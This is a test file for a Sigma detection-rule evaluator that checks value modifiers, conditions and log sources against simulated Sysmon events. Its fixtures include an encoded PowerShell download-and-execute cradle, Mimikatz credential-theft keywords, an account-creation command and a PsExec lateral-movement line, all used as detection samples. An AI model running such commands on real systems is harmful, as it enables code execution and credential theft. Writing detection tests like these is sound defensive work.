@@ -1,0 +1,246 @@
+"""Sigma evaluator: a table of rules x events over every value modifier, condition form and logsource,
+plus constructs we cannot evaluate, which must be reported at load with the reason."""
+
+from __future__ import annotations
+
+import base64
+import uuid
+from typing import Any
+
+import pytest
+import yaml
+
+from secustream.analyzer.sigma import SigmaEngine, SigmaRuleSet
+from secustream.analyzer.sigma.loader import build_ruleset
+from secustream.analyzer.verdict import RiskLevel
+from secustream.events import SecurityEvent
+from secustream.state import MemoryState
+
+WIN_PROC = {"product": "windows", "category": "process_creation"}
+PS_B64 = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16le")).decode()
+PS_UTF16BE = base64.b64encode("whoami".encode("utf-16be")).decode()
+
+
+def process(cmd: str = "", image: str = "C:\\Windows\\System32\\cmd.exe", **unmapped: Any) -> dict[str, Any]:
+    """A Sysmon process_creation event as the windows normaliser produces it."""
+    return {"event_type": "process", "action": "process_start", "dataset": "windows.sysmon", "product": "windows",
+            "timestamp": "2026-03-02T14:30:00Z",
+            "process": {"executable": image, "name": image.rsplit("\\", 1)[-1], "command_line": cmd or None},
+            "unmapped": {"EventID": 1, "Image": image, **({"CommandLine": cmd} if cmd else {}), **unmapped}}
+
+
+def rule_yaml(detection: dict[str, Any], logsource: dict[str, str] | None = None, **extra: Any) -> str:
+    return yaml.safe_dump({"title": "case", "name": "case", "id": str(uuid.uuid4()), "status": "test",
+                           "logsource": logsource or WIN_PROC, "detection": detection, "level": "high",
+                           "tags": ["attack.execution", "attack.t1059.001"], **extra}, sort_keys=False)
+
+
+def fires(rule: str, event: dict[str, Any]) -> bool:
+    ruleset = SigmaRuleSet.from_yaml_text(rule)
+    assert not ruleset.errors, ruleset.errors
+    ev = SecurityEvent.model_validate(event)
+    hits = SigmaEngine(ruleset, MemoryState()).evaluate([ev], [ev.model_dump(mode="json", exclude_none=True)])
+    return any(h.rule_id == "sigma:case" for h in hits[0])
+
+
+def sel(item: dict[str, Any], condition: str = "sel") -> dict[str, Any]:
+    return {"sel": item, "condition": condition}
+
+
+CASES: list[tuple[str, dict[str, Any], dict[str, Any], bool]] = [
+    # plain equality is case-insensitive; lists are OR
+    ("equals", sel({"Image": "c:\\windows\\system32\\CMD.exe"}), process(), True),
+    ("equals-miss", sel({"Image": "cmd.exe"}), process(), False),
+    ("list-or", sel({"Image": ["x.exe", "C:\\Windows\\System32\\cmd.exe"]}), process(), True),
+    ("number", sel({"EventID": 1}), process(), True),
+    ("number-as-string", sel({"EventID": "1"}), process(), True),
+    ("bool", sel({"Signed": True}), process(Signed="true"), True),
+    # wildcards
+    ("wildcard-star", sel({"CommandLine": "*whoami*/all"}), process("cmd /c whoami /all"), True),
+    ("wildcard-question", sel({"CommandLine": "who?mi"}), process("whoami"), True),
+    ("wildcard-question-miss", sel({"CommandLine": "who?mi"}), process("whoaami"), False),
+    ("escaped-star", sel({"CommandLine": "a\\*b"}), process("a*b"), True),
+    ("escaped-star-literal", sel({"CommandLine": "a\\*b"}), process("axxb"), False),
+    # string modifiers
+    ("contains", sel({"CommandLine|contains": "WHOAMI"}), process("cmd /c whoami"), True),
+    ("startswith", sel({"CommandLine|startswith": "cmd /c"}), process("cmd /c whoami"), True),
+    ("startswith-miss", sel({"CommandLine|startswith": "whoami"}), process("cmd /c whoami"), False),
+    ("endswith", sel({"Image|endswith": "\\cmd.exe"}), process(), True),
+    ("contains-all", sel({"CommandLine|contains|all": ["net", "user", "/add"]}), process("net user x /add"), True),
+    ("contains-all-miss", sel({"CommandLine|contains|all": ["net", "user", "/add"]}), process("net user x"), False),
+    ("cased", sel({"CommandLine|cased": "Whoami"}), process("whoami"), False),
+    ("cased-hit", sel({"CommandLine|cased|contains": "Whoami"}), process("cmd Whoami"), True),
+    ("re", sel({"CommandLine|re": "^cmd\\s+/c\\s+\\w+$"}), process("cmd /c whoami"), True),
+    ("re-case-sensitive", sel({"CommandLine|re": "WHOAMI"}), process("whoami"), False),
+    ("re-i", sel({"CommandLine|re|i": "WHOAMI"}), process("whoami"), True),
+    ("re-m", sel({"CommandLine|re|m": "^b$"}), process("a\nb\nc"), True),
+    ("re-s", sel({"CommandLine|re|s": "a.c"}), process("a\nc"), True),
+    ("windash", sel({"CommandLine|windash|contains": " -enc "}), process("powershell /enc AAA"), True),
+    ("windash-endash", sel({"CommandLine|windash|contains": " -enc "}), process("powershell \u2013enc AAA"), True),
+    ("windash-miss", sel({"CommandLine|windash|contains": " -enc "}), process("powershell enc AAA"), False),
+    ("base64", sel({"CommandLine|base64": "whoami"}), process(base64.b64encode(b"whoami").decode()), True),
+    ("base64-contains", sel({"CommandLine|base64|contains": "whoami"}),
+     process("echo " + base64.b64encode(b"whoami").decode()), True),
+    ("base64offset", sel({"CommandLine|base64offset|contains": "http://"}),
+     process("x " + base64.b64encode(b"..get http://evil").decode()), True),
+    ("wide-base64offset", sel({"CommandLine|wide|base64offset|contains": "DownloadString"}),
+     process(f"powershell -enc {PS_B64}"), True),
+    ("wide-base64offset-miss", sel({"CommandLine|wide|base64offset|contains": "Invoke-Mimikatz"}),
+     process(f"powershell -enc {PS_B64}"), False),
+    ("utf16be", sel({"CommandLine|utf16be|base64": "whoami"}), process(PS_UTF16BE), True),
+    ("utf16-bom", sel({"CommandLine|utf16|base64": "a"}), process(base64.b64encode(b"\xff\xfea\x00").decode()), True),
+    ("cidr", sel({"DestinationIp|cidr": "10.0.0.0/8"}), process(DestinationIp="10.20.30.40"), True),
+    ("cidr-miss", sel({"DestinationIp|cidr": ["192.168.0.0/16", "fc00::/7"]}), process(DestinationIp="10.1.1.1"),
+     False),
+    ("cidr-v6", sel({"DestinationIp|cidr": "fc00::/7"}), process(DestinationIp="fd00::1"), True),
+    ("cidr-not-ip", sel({"DestinationIp|cidr": "10.0.0.0/8"}), process(DestinationIp="-"), False),
+    ("gt", sel({"DestinationPort|gt": 1024}), process(DestinationPort="4444"), True),
+    ("gt-miss", sel({"DestinationPort|gt": 1024}), process(DestinationPort="443"), False),
+    ("gte", sel({"DestinationPort|gte": 443}), process(DestinationPort=443), True),
+    ("lt", sel({"DestinationPort|lt": 1024}), process(DestinationPort="22"), True),
+    ("lte", sel({"DestinationPort|lte": 22}), process(DestinationPort="23"), False),
+    ("neq", sel({"User|neq": "SYSTEM"}), process(User="alice"), True),
+    ("neq-miss", sel({"User|neq": "SYSTEM"}), process(User="system"), False),
+    ("exists", sel({"ParentImage|exists": True}), process(ParentImage="C:\\x.exe"), True),
+    ("exists-miss", sel({"ParentImage|exists": True}), process(), False),
+    ("exists-false", sel({"ParentImage|exists": False}), process(), True),
+    ("null", sel({"ParentImage": None}), process(), True),
+    ("null-miss", sel({"ParentImage": None}), process(ParentImage="x"), False),
+    ("fieldref", sel({"ParentImage|fieldref": "Image"}), process(ParentImage="C:\\Windows\\System32\\cmd.exe"), True),
+    ("fieldref-endswith", sel({"Image|fieldref|endswith": "OriginalFileName"}), process(OriginalFileName="cmd.exe"),
+     True),
+    ("hour", sel({"UtcTime|hour": 14}), process(UtcTime="2026-03-02 14:30:00.000"), True),
+    ("hour-miss", sel({"UtcTime|hour": 3}), process(UtcTime="2026-03-02 14:30:00.000"), False),
+    # keywords
+    ("keyword", {"keywords": ["mimikatz", "sekurlsa"], "condition": "keywords"}, process("x sekurlsa::pth"), True),
+    ("keyword-miss", {"keywords": ["mimikatz"], "condition": "keywords"}, process("whoami"), False),
+    ("keyword-wildcard", {"keywords": ["sekurlsa*pth"], "condition": "keywords"}, process("sekurlsa::pth"), True),
+    ("keyword-all", {"keywords": {"|all": ["net", "/add"]}, "condition": "keywords"}, process("net user /add"), True),
+    # condition forms
+    ("and", {"a": {"Image|endswith": "cmd.exe"}, "b": {"CommandLine|contains": "whoami"}, "condition": "a and b"},
+     process("whoami"), True),
+    ("and-miss", {"a": {"Image|endswith": "cmd.exe"}, "b": {"CommandLine|contains": "net"}, "condition": "a and b"},
+     process("whoami"), False),
+    ("or", {"a": {"Image|endswith": "x.exe"}, "b": {"CommandLine|contains": "whoami"}, "condition": "a or b"},
+     process("whoami"), True),
+    ("not", {"a": {"Image|endswith": "cmd.exe"}, "f": {"CommandLine|contains": "whoami"}, "condition": "a and not f"},
+     process("whoami"), False),
+    ("not-absent-field", {"a": {"Image|endswith": "cmd.exe"}, "f": {"User": "SYSTEM"}, "condition": "a and not f"},
+     process("whoami"), True),
+    ("parentheses", {"a": {"EventID": 1}, "b": {"CommandLine|contains": "x"}, "c": {"CommandLine|contains": "who"},
+                     "condition": "a and (b or c)"}, process("whoami"), True),
+    ("precedence", {"a": {"EventID": 2}, "b": {"CommandLine|contains": "x"}, "c": {"CommandLine|contains": "who"},
+                    "condition": "a and b or c"}, process("whoami"), True),
+    ("1-of", {"sel_a": {"CommandLine|contains": "net"}, "sel_b": {"CommandLine|contains": "who"},
+              "condition": "1 of sel_*"}, process("whoami"), True),
+    ("all-of", {"sel_a": {"CommandLine|contains": "net"}, "sel_b": {"CommandLine|contains": "who"},
+                "condition": "all of sel_*"}, process("whoami"), False),
+    ("all-of-hit", {"sel_a": {"CommandLine|contains": "who"}, "sel_b": {"Image|endswith": ".exe"},
+                    "condition": "all of sel_*"}, process("whoami"), True),
+    ("1-of-them", {"a": {"CommandLine": "nope"}, "b": {"EventID": 1}, "condition": "1 of them"}, process("x"), True),
+    ("all-of-them", {"a": {"CommandLine": "nope"}, "b": {"EventID": 1}, "condition": "all of them"}, process("x"),
+     False),
+    ("not-1-of", {"sel": {"EventID": 1}, "filter_a": {"User": "a"}, "filter_b": {"User": "b"},
+                  "condition": "sel and not 1 of filter_*"}, process(User="b"), False),
+    ("list-of-maps", {"sel": [{"CommandLine|contains": "net"}, {"Image|endswith": "cmd.exe"}], "condition": "sel"},
+     process("whoami"), True),
+    ("condition-list", {"a": {"CommandLine": "no"}, "b": {"EventID": 1}, "condition": ["a", "b"]}, process("x"), True),
+    # fields reached through aliases (generator events carry no Sysmon names)
+    ("alias-image", sel({"Image|endswith": "psexec64.exe"}),
+     {"event_type": "process", "action": "process_start", "dataset": "sysmon", "product": "sysmon",
+      "process": {"name": "PsExec64.exe", "command_line": "PsExec64.exe \\\\fs01 -s cmd"}}, True),
+    ("dotted-path", sel({"source.ip|cidr": "203.0.113.0/24"}),
+     {**process(), "source": {"ip": "203.0.113.9"}}, True),
+]
+
+
+@pytest.mark.parametrize(("detection", "event", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
+def test_rule_event_table(detection: dict[str, Any], event: dict[str, Any], expected: bool) -> None:
+    assert fires(rule_yaml(detection), event) is expected
+
+
+@pytest.mark.parametrize(("logsource", "event", "expected"), [
+    ({"product": "windows", "category": "process_creation"}, process(), True),
+    ({"product": "windows"}, process(), True),
+    ({"product": "windows", "service": "sysmon"}, process(), True),
+    ({"product": "windows", "service": "security"}, process(), False),
+    ({"product": "linux", "category": "process_creation"}, process(), False),
+    ({"category": "process_access"}, process(), False),
+    ({"product": "windows", "service": "security"},
+     {**process(), "dataset": "windows.security", "action": "logon", "event_type": "auth"}, True),
+    ({"product": "linux", "service": "auth"},
+     {**process(), "dataset": "linux.auth", "product": "sudo", "vendor": "linux", "event_type": "auth",
+      "action": "sudo"}, True),
+    ({"product": "linux", "service": "sudo"},
+     {**process(), "dataset": "linux.auth", "product": "sudo", "vendor": "linux", "event_type": "auth",
+      "action": "sudo", "unmapped": {"EventID": 1, "program": "sudo"}}, True),
+    ({"product": "linux", "service": "auditd"}, {**process(), "dataset": "linux.auditd", "product": "auditd"}, True),
+    ({"category": "webserver"}, {"event_type": "http", "dataset": "web.access", "unmapped": {"EventID": 1}}, True),
+    ({"category": "proxy"}, {"event_type": "http", "dataset": "proxy", "unmapped": {"EventID": 1}}, True),
+])
+def test_logsource_matching(logsource: dict[str, str], event: dict[str, Any], expected: bool) -> None:
+    assert fires(rule_yaml(sel({"EventID": 1}), logsource), event) is expected
+
+
+def test_level_and_tags_map_to_severity_mitre_and_threat_type() -> None:
+    text = rule_yaml(sel({"EventID": 1}), tags=["attack.lateral-movement", "attack.t1021.002", "attack.t1569.002",
+                                                  "car.2013-05-004"])
+    ruleset = SigmaRuleSet.from_yaml_text(text.replace("level: high", "level: critical"))
+    ev = SecurityEvent.model_validate(process())
+    [hit] = SigmaEngine(ruleset, MemoryState()).evaluate([ev])[0]
+    assert (hit.severity, hit.mitre, hit.threat_type) == (RiskLevel.CRITICAL, ("T1021.002", "T1569.002"),
+                                                            "lateral_movement")
+
+
+UNSUPPORTED: list[tuple[str, str, str]] = [
+    ("expand-placeholder", rule_yaml(sel({"CommandLine|expand": "%admin_tools%"})), "placeholder %admin_tools%"),
+    ("unknown-modifier", rule_yaml(sel({"CommandLine|sounds_like": "x"})), "Unknown modifier"),
+    ("utf16le-not-in-pysigma", rule_yaml(sel({"CommandLine|utf16le|base64offset|contains": "IEX"})),
+     "Unknown modifier 'utf16le'"),
+    ("pipe-aggregation", rule_yaml({"sel": {"EventID": 1}, "condition": "sel | count() > 5"}), "pipe syntax"),
+    ("dangling-detection", rule_yaml({"sel": {"EventID": 1}, "unused": {"EventID": 2}, "condition": "sel"}),
+     "DanglingDetection"),
+    ("all-without-contains", rule_yaml(sel({"CommandLine|all": ["a", "b"]})), "AllWithoutContainsModifier"),
+    ("python-incompatible-regex", rule_yaml(sel({"CommandLine|re": "(?<name>x)"})), "regular expression"),
+]
+
+
+@pytest.mark.parametrize(("text", "reason"), [u[1:] for u in UNSUPPORTED], ids=[u[0] for u in UNSUPPORTED])
+def test_unsupported_constructs_are_reported_at_load(text: str, reason: str) -> None:
+    ruleset = SigmaRuleSet.from_yaml_text(text, origin="custom.yml")
+    assert ruleset.rules == ()
+    assert ruleset.errors, "an unusable rule must be reported, never dropped silently"
+    message = " | ".join(str(e) for e in ruleset.errors)
+    assert reason.lower() in message.lower() and "custom.yml" in message
+
+
+BASE = rule_yaml(sel({"EventID": 4625}), {"product": "windows", "service": "security"})
+
+
+@pytest.mark.parametrize(("correlation", "reason"), [
+    ({"type": "value_sum", "rules": ["case"], "group-by": ["IpAddress"], "timespan": "5m",
+      "condition": {"gte": 10, "field": "Bytes"}}, "type value_sum"),
+    ({"type": "temporal_ordered", "rules": ["case"], "group-by": ["IpAddress"], "timespan": "5m"},
+     "type temporal_ordered"),
+    ({"type": "event_count", "rules": ["case"], "group-by": ["IpAddress"], "timespan": "5m",
+      "condition": {"lt": 3}}, "window closes"),
+    ({"type": "event_count", "rules": ["does-not-exist"], "group-by": ["IpAddress"], "timespan": "5m",
+      "condition": {"gte": 3}}, "not loaded"),
+])
+def test_unsupported_correlations_are_reported(correlation: dict[str, Any], reason: str) -> None:
+    text = BASE + "---\n" + yaml.safe_dump({"title": "corr", "name": "corr", "correlation": correlation,
+                                            "level": "high"})
+    ruleset = SigmaRuleSet.from_yaml_text(text)
+    assert ruleset.correlations == ()
+    assert any(reason in e.reason for e in ruleset.errors), ruleset.errors
+
+
+def test_unknown_logsource_is_a_warning_and_one_bad_rule_does_not_hide_the_others() -> None:
+    text = rule_yaml(sel({"eventName": "ConsoleLogin"}), {"product": "aws", "service": "cloudtrail"}) + "---\n" \
+        + rule_yaml(sel({"CommandLine|expand": "%x%"})).replace("name: case", "name: bad")
+    ruleset = build_ruleset([("cloud.yml", text), ("broken.yml", "title: [unclosed\n")])
+    assert [r.rule_id for r in ruleset.rules] == ["sigma:case"]
+    assert any(i.origin == "broken.yml" and "not loadable Sigma YAML" in i.reason for i in ruleset.errors)
+    levels = sorted((i.level, i.reason.split(":")[0]) for i in ruleset.issues)
+    assert ("warning", "logsource product") in [(lv, r[:17]) for lv, r in levels]
+    assert any(i.level == "error" and "placeholder" in i.reason for i in ruleset.issues)
